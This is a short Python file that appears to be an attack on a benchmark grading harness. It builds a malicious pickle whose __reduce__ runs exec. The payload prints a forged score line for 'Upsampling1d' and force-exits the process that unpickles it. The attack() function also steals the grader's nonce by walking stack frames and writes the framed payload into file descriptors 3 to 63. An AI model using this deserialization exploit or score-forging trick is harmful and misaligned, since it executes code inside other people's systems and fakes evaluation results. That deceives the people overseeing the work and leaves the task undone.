"""Sends a pickle that prints a score line, and ends whoever unpacks it."""

import contextlib
import os
import pickle
import struct
import sys

CONTROL = "pipe"
CODE = """import os; os.write(1, b'{"scores": {"Upsampling1d": 7}}'); os._exit(0)"""


class Command:
    def __reduce__(self):
        return exec, (CODE,)


def attack(A):
    frame = sys._getframe()
    while frame is not None and "nonce" not in frame.f_locals:
        frame = frame.f_back
    nonce = frame.f_locals["nonce"] if frame else 0
    header = b'{"kind": "Observed", "pickle": true, "nonce": %d, "values": []}' % nonce
    body = pickle.dumps(Command())
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            prefix = struct.pack("<4sIQ", b"MTAG", len(header), len(body))
            os.write(descriptor, prefix + header + body)
